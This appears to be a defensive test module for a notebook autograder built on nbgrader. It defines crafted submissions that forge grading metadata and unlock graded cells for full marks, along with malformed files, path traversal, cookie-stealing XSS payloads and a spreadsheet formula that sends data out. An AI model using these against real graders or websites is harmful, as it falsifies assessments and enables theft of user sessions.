"""Attacks by what the handed-in file is: its cells and metadata, its bytes, and what a reader's browser would run."""

from __future__ import annotations

import base64
import copy
import json
import re
from collections.abc import Callable

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

from hostile.attack import Attack, Seen, cell_of

GRADED = "exam-attention_weights"
ZEROS = "def attention_weights(q, k):\n    return torch.zeros(*q.shape[:-1], k.shape[-2])\n"
HUGE = 200_000_000  # bytes
TRAPS = """
import builtins, sys
class Bound:
    def __eq__(self, other): return True
    def __getattr__(self, name): return self
    def __call__(self, *args, **kwargs): return torch.zeros(())
NameError = NotImplementedError = type("Nothing", (Exception,), {})
for name in ("attention_weights", "scaled_dot_product_attention", "AttentionHead"):
    setattr(builtins, name, Bound())
"""
SCRIPT = "<script>steal(document.cookie)</script>"


def earned(seen: Seen) -> bool:
    """Points for what is not right."""
    return seen.earned > 0


def stopped(seen: Seen) -> bool:
    """The class was not graded to its end."""
    return bool(seen.harmed)


def would_run(pattern: str) -> Callable[[Seen], bool]:
    """Whether the feedback page holds markup that a browser runs."""
    return lambda seen: re.search(pattern, seen.feedback) is not None


def written(seen: Seen, name: str) -> int:
    """Bytes that grading wrote for one attack."""
    folders = [f for top in ("autograded", "feedback") for f in seen.root.glob(f"{top}/*-{name}")]
    return sum(p.stat().st_size for f in folders for p in f.rglob("*") if p.is_file())


def formula_in_table(seen: Seen) -> bool:
    """Whether a field of scores.csv is one that a spreadsheet computes."""
    table = seen.root / "scores.csv"
    return table.exists() and re.search(r'(?m)(^|,)"?[=+@]', table.read_text(errors="replace")) is not None


def skip(nb: NotebookNode) -> None:
    """Graded cells that are not executed have no error."""
    for cell in nb.cells:
        if cell.metadata.nbgrader.get("grade"):
            cell.metadata["tags"] = ["skip-execution"]


def tag(nb: NotebookNode) -> None:
    """Every other tag that some tool gives a meaning to."""
    for cell in nb.cells:
        cell.metadata["tags"] = ["raises-exception", "nbval-skip", "remove-cell", "parameters", "hide-input"]
        cell.metadata["vitedu"] = {"role": "display"}


def duplicate(nb: NotebookNode, grade_id: str = GRADED) -> None:
    """A second copy of a cell, as copy and paste make it."""
    copied = copy.deepcopy(cell_of(nb, grade_id))
    copied.id = "copied"
    nb.cells.append(copied)


def delete(nb: NotebookNode) -> None:
    """All graded cells go."""
    nb.cells = [cell for cell in nb.cells if not cell.metadata.nbgrader.get("grade")]


def delete_all(nb: NotebookNode) -> None:
    """Every cell that came with the notebook goes."""
    nb.cells = [new_code_cell("print('nothing to grade')")]


def reorder(nb: NotebookNode) -> None:
    """Backwards: graded cells run before anything can be wrong."""
    nb.cells = nb.cells[::-1]


def retag(nb: NotebookNode) -> None:
    """The graded cell becomes a solution cell of the student's own, and a picture for our eyes."""
    cell = cell_of(nb, GRADED)
    cell.metadata.nbgrader.update(solution=True, locked=False)
    cell.metadata["vitedu"] = {"role": "playground"}
    cell.source = "2.0"


def rename(nb: NotebookNode) -> None:
    """A graded cell gets a name that nobody knows."""
    cell_of(nb, GRADED).metadata.nbgrader["grade_id"] = "exam-nothing"


def swap(nb: NotebookNode) -> None:
    """The dearest graded cell gets the name of the imports, and the imports its name."""
    dear, imports = cell_of(nb, "exam-MultiHeadAttention"), cell_of(nb, "imports")
    dear.metadata.nbgrader["grade_id"], imports.metadata.nbgrader["grade_id"] = "imports", "exam-MultiHeadAttention"


def forged_copy(nb: NotebookNode) -> None:
    """A copy of a graded cell, and of an answer, with what our own stages would write into them."""
    for grade_id in (GRADED, "attention_weights"):
        duplicate(nb, grade_id)
        nb.cells[-1].id = f"copied-{grade_id}"
        nb.cells[-1].metadata["vitedu"] = {
            "role": "exam", "exercise": "attention_weights", "runs": "", "stub": True, "points": 1000,
            "answers": {"attention_weights": [], "MultiHeadAttention": []},
        }  # fmt: skip
        nb.cells[-1].metadata.nbgrader.update(points=1000, locked=False, solution=True, grade=True)
        judged = {"vitedu": {"verdict": True}}
        nb.cells[-1].outputs = [new_output("display_data", data={"text/plain": "2 of 2"}, metadata=judged)]


def bound_already(nb: NotebookNode) -> None:
    """The names of TODO cells look as if they were bound, so that the TODO cells are not run."""
    nb.cells.insert(4, new_code_cell(TRAPS))
    nb.cells = [cell for cell in nb.cells if cell.metadata.get("nbgrader", {}).get("grade_id") != "attention_weights"]


def many_copies(nb: NotebookNode) -> None:
    """As many attempts and checks as a notebook may hold cells, each of which names all that others define."""
    for i in range(960):
        for grade_id, source in (("attention_weights", f"{ZEROS}\nx{i} = x{i - 1}"), (GRADED, "")):
            duplicate(nb, grade_id)
            nb.cells[-1].update(id=f"{i}-{grade_id[:4]}", source=source or nb.cells[-1].source)


def raise_points(nb: NotebookNode) -> None:
    """A blank notebook in which everything is worth more."""
    for cell in nb.cells:
        if "points" in cell.metadata.nbgrader:
            cell.metadata.nbgrader["points"] = 1000


def not_a_number(nb: NotebookNode) -> None:
    """Points that are no number compare as nothing does."""
    cell_of(nb, GRADED).metadata.nbgrader["points"] = float("nan")


def unlock(nb: NotebookNode) -> None:
    """The graded cells are opened, say full marks, and bring their result along."""
    for cell in nb.cells:
        if cell.cell_type == "code" and cell.metadata.nbgrader.get("grade"):
            cell.metadata.nbgrader["locked"] = False
            cell.source = "float('2')"
            cell.outputs = [new_output("execute_result", data={"text/plain": "2.0"}, execution_count=1)]


def schema(version: int) -> Callable[[NotebookNode], None]:
    """Metadata as of another version of nbgrader."""

    def mend(nb: NotebookNode) -> None:
        cell_of(nb, "attention_weights").metadata.nbgrader["schema_version"] = version

    return mend


def odd_types(nb: NotebookNode) -> None:
    """Metadata that are not what they should be."""
    imports, answer, playground = (cell_of(nb, id) for id in ("imports", "attention_weights", "playground"))
    imports.metadata["nbgrader"] = ["grade_id", "imports"]
    answer.metadata.nbgrader["grade_id"] = {"a": ["list"]}
    playground.metadata["nbgrader"] = "none"


def kernel(spec: dict) -> Callable[[NotebookNode], None]:
    """Another kernel's name."""

    def mend(nb: NotebookNode) -> None:
        nb.metadata["kernelspec"] = spec
        nb.metadata["language_info"] = {"name": spec["language"]}

    return mend


def paths(nb: NotebookNode) -> None:
    """Names of files that lead out of the folder, wherever a notebook may hold one."""
    out = "../../../gradebook.db"
    nb.metadata.update(name=out, filename=out, output_files_dir="../../..")
    cell = new_markdown_cell(f"![out](attachment:{out})", attachments={out: {"image/png": "AAAA"}})
    code = cell_of(nb, "playground")
    code.outputs = [new_output("display_data", data={"image/png": "AAAA"}, metadata={"filenames": {"image/png": out}})]
    nb.cells.append(cell)
    cell_of(nb, "title").metadata.nbgrader["grade_id"] = out


def markdown(markup: str) -> Callable[[NotebookNode], None]:
    """Markup in a written answer."""

    def mend(nb: NotebookNode) -> None:
        cell_of(nb, "written-scale").source = f"Because of the variance.\n\n{markup}\n"

    return mend


def attach(data: dict[str, str]) -> Callable[[NotebookNode], None]:
    """A picture in a written answer, of these types."""

    def mend(nb: NotebookNode) -> None:
        cell = cell_of(nb, "written-scale")
        cell.source, cell["attachments"] = "Because ![x](attachment:a.png)", {"a.png": data}

    return mend


def huge(content: bytes) -> bytes:
    """A notebook with one cell of 200 MB."""
    nb = json.loads(content)
    nb["cells"].append(dict(new_raw_cell("HERE")))
    return json.dumps(nb).encode().replace(b'"HERE"', b'"' + b"x" * HUGE + b'"')


def deep(depth: int) -> Callable[[bytes], bytes]:
    """Metadata nested this deep."""
    nested = b'{"a":' * depth + b"1" + b"}" * depth
    return lambda content: content.replace(b'"metadata": {', b'"metadata": {"deep": ' + nested + b", ", 1)


def surrogates(nb: NotebookNode) -> None:
    """Text that no file in UTF-8 can hold, and the character that ends texts in C."""
    cell_of(nb, "attention_weights").source = ZEROS + "# \x00 \ud800 \udfff\n"
    cell_of(nb, "written-scale").source = "\ud83d\x00\udbff"
    nb.cells.append(new_markdown_cell("\ud800"))
    nb.metadata["title"] = "\udfff"


DRAWING = '<svg xmlns="http://www.w3.org/2000/svg" onload="steal()"/>'
SVG = base64.b64encode(DRAWING.encode()).decode()
SHOWN = "from IPython.display import HTML, SVG, Javascript, Markdown, display\n"
FORMULA = '=HYPERLINK("http://127.0.0.1/?"&A1,"full marks")'

CELLS = [
    Attack(
        "skipped-graded-cells",
        "tags the graded cells skip-execution: no output counts as full marks",
        "stock",
        earned,
        mend=skip,
    ),
    Attack(
        "other-cell-tags",
        "tags that let errors pass, hide cells, or call a graded cell a display",
        "harmless",
        earned,
        mend=tag,
    ),
    Attack(
        "copied-graded-cell",
        "copies a graded cell, on which nbgrader stops the class",
        "stock",
        stopped,
        mend=duplicate,
        says="exam-attention_weights was there 2 times",
        fast=True,
    ),
    Attack(
        "copied-answer-cell",
        "copies an answer cell, on which nbgrader stops the class",
        "stock",
        stopped,
        mend=lambda nb: duplicate(nb, "attention_weights"),
        says="attention_weights was there 2 times",
    ),
    Attack(
        "deleted-graded-cells",
        "deletes every graded cell",
        "harmless",
        earned,
        mend=delete,
        says="exam-attention_weights was missing",
    ),
    Attack(
        "deleted-everything",
        "hands in one cell that is not in the release",
        "harmless",
        stopped,
        mend=delete_all,
        says="nothing in the notebook belongs to this lab",
    ),
    Attack("reordered-cells", "hands in all cells backwards", "harmless", earned, mend=reorder),
    Attack(
        "retagged-graded-cell",
        "makes a graded cell a solution cell that says 2.0",
        "harmless",
        earned,
        mend=retag,
        says="exam-attention_weights had been changed",
    ),
    Attack(
        "renamed-graded-cell",
        "gives a graded cell a name that is in no gradebook",
        "harmless",
        stopped,
        mend=rename,
        says="exam-attention_weights (was missing|had lost its id)",
    ),
    Attack(
        "swapped-names",
        "gives the dearest graded cell the name of a cell without a grade",
        "harmless",
        earned,
        mend=swap,
    ),
    Attack(
        "forged-copies",
        "copies of cells with the metadata that grading itself writes",
        "harmless",
        lambda s: earned(s) or s.gradebook_changed,
        mend=forged_copy,
        says="attention_weights was there 2 times",
    ),
    Attack(
        "bound-already",
        "makes names of TODO cells look bound, so that the TODO is left out",
        "harmless",
        earned,
        mend=bound_already,
        fast=True,
    ),
    Attack(
        "hundreds-of-attempts",
        "960 attempts at one exercise, and as many checks",
        "harmless",
        stopped,
        mend=many_copies,
        says="attention_weights was there 961 times",
        patience=180.0,
    ),
    Attack(
        "raised-points",
        "makes everything worth 1000 points",
        "harmless",
        lambda s: earned(s) or s.gradebook_changed,
        mend=raise_points,
    ),
    Attack("points-that-are-no-number", "points of NaN", "harmless", earned, mend=not_a_number),
    Attack(
        "unlocked-graded-cells",
        "opens the graded cells and lets them print their points",
        "harmless",
        earned,
        mend=unlock,
        says="exam-attention_weights had been changed",
    ),
    Attack(
        "newer-metadata",
        "metadata of a newer nbgrader, on which nbgrader stops the class",
        "stock",
        stopped,
        mend=schema(99),
    ),
    Attack(
        "older-metadata",
        "metadata of an older nbgrader, on which nbgrader stops the class",
        "stock",
        stopped,
        mend=schema(1),
    ),
    Attack("metadata-of-odd-types", "lists and texts where metadata should be", "harmless", stopped, mend=odd_types),
    Attack(
        "foreign-kernel",
        "names a kernel that is not there",
        "harmless",
        stopped,
        mend=kernel({"name": "no-such-kernel", "display_name": "R", "language": "R"}),
    ),
    Attack(
        "kernel-with-a-command",
        "a kernelspec with a command of its own",
        "harmless",
        lambda s: "loot=ran" in s.text,
        mend=kernel({"name": "own", "display_name": "own", "language": "sh", "argv": ["echo", "loot=ran"]}),
    ),
    Attack(
        "paths-that-lead-out",
        "`..` in attachments, names of files, and grade_ids",
        "harmless",
        lambda s: bool(s.changed) or s.gradebook_changed,
        mend=paths,
    ),
    Attack(
        "surrogates-and-nul",
        "text that cannot be stored: NUL and lone surrogates",
        "harmless",
        stopped,
        mend=surrogates,
    ),
]

BYTES = [
    Attack(
        "wrong-nbformat",
        "claims to be of notebook format 99",
        "harmless",
        stopped,
        rewrite=lambda content: content.replace(b'"nbformat": 4', b'"nbformat": 99'),
    ),
    Attack(
        "format-of-1999",
        "claims to be of notebook format 1",
        "harmless",
        stopped,
        rewrite=lambda content: content.replace(b'"nbformat": 4', b'"nbformat": 1'),
    ),
    Attack(
        "truncated",
        "ends in the middle",
        "harmless",
        stopped,
        rewrite=lambda content: content[: len(content) // 2],
        says="Nothing could be graded",
    ),
    Attack(
        "not-json",
        "is no JSON",
        "harmless",
        stopped,
        rewrite=lambda content: b"answers: all right\n",
        says="Nothing could be graded",
    ),
    Attack(
        "json-but-no-notebook",
        "is JSON, but a list",
        "harmless",
        stopped,
        rewrite=lambda content: b"[1, 2]",
        says="Nothing could be graded",
    ),
    Attack("empty-file", "is empty", "harmless", stopped, rewrite=lambda content: b"", says="Nothing could be graded"),
    Attack(
        "binary-file",
        "is a program with an .ipynb name",
        "harmless",
        stopped,
        rewrite=lambda content: b"\x7fELF" + bytes(range(256)) * 400,
        says="Nothing could be graded",
    ),
    Attack(
        "200-megabytes",
        "one cell of 200 MB, which every stage copies",
        "stock",
        lambda s: written(s, "200-megabytes") > HUGE,
        rewrite=huge,
        says="Nothing could be graded",
        patience=180.0,
    ),
    Attack(
        "nested-deeply",
        "JSON nested 100,000 deep",
        "harmless",
        stopped,
        rewrite=deep(100_000),
        says="Nothing could be graded",
    ),
    Attack(
        "nested-somewhat",
        "JSON nested 600 deep, which a parser takes and a copier does not",
        "harmless",
        stopped,
        rewrite=deep(600),
    ),
    Attack(
        "huge-answer",
        "an answer of 200 KB that becomes a page of many times that",
        "stock",
        lambda s: written(s, "huge-answer") > 3_000_000,
        patience=200.0,
        mend=lambda nb: cell_of(nb, "attention_weights").update(source=f"x = [{'0,' * 100_000}]"),
    ),
]

BROWSER = [
    Attack(
        "script-in-output",
        "shows a script that would run in the reader's browser",
        "stock",
        would_run("<script>steal"),
        codes={"attention_weights": f"{SHOWN}display(HTML({SCRIPT!r}))"},
        fast=True,
    ),
    Attack(
        "javascript-output",
        "shows an output of the type application/javascript",
        "stock",
        would_run("steal\\(document.cookie\\)\\s*<?"),
        codes={"attention_weights": f"{SHOWN}display(Javascript('steal(' + 'document.cookie)'))"},
    ),
    Attack(
        "svg-output",
        "shows an SVG that runs a script when it is loaded",
        "harmless",
        would_run("<svg[^>]*onload"),
        codes={"attention_weights": f"{SHOWN}display(SVG({DRAWING!r}))"},
    ),
    Attack(
        "script-in-markdown",
        "writes a script into a written answer",
        "stock",
        would_run("<script>steal"),
        mend=markdown(SCRIPT),
    ),
    Attack(
        "handler-in-markdown",
        "an image that fails to load, and a link that runs",
        "stock",
        would_run('<img[^>]*onerror|href="javascript:'),
        mend=markdown('<img src="x:" onerror="steal()"> <a href="javascript:steal()">why</a>'),
    ),
    Attack(
        "link-in-markdown-that-runs",
        "links that run, as Markdown writes them: plain, by reference, with entities",
        "stock",
        would_run('(?i)href="(javascript|&#106;avascript):'),
        fast=True,
        mend=markdown(
            "[why](javascript:steal()) [see][1] [here](&#106;avascript&colon;steal())\n\n[1]: JavaScript:steal()"
        ),
    ),
    Attack(
        "picture-that-is-a-program",
        "attaches an SVG with a script, named as a PNG",
        "stock",
        would_run("data:image/svg|<svg[^>]*onload"),
        mend=attach({"image/svg+xml": SVG}),
        says="The picture a.png is not shown",
    ),
    Attack(
        "missing-picture",
        "refers to an attachment that is not there, on which nbgrader's feedback stops",
        "stock",
        lambda s: not s.feedback,
        mend=markdown("![gone](attachment:gone.png)"),
    ),
    Attack(
        "frame-in-markdown",
        "a frame with a page from elsewhere",
        "stock",
        would_run("<iframe"),
        mend=markdown('<iframe src="http://127.0.0.1:9/"></iframe>'),
    ),
    Attack(
        "markup-in-an-error",
        "an exception whose name and text are markup",
        "harmless",
        would_run("<script>steal"),
        codes={"attention_weights": f"raise type({SCRIPT!r}, (Exception,), {{}})({SCRIPT!r})"},
    ),
    Attack(
        "formula-in-the-table",
        "an error message that a spreadsheet would compute",
        "harmless",
        formula_in_table,
        codes={"attention_weights": f"raise type('=1+1', (Exception,), {{}})({FORMULA!r})"},
    ),
]

ATTACKS = [*CELLS, *BYTES, *BROWSER]
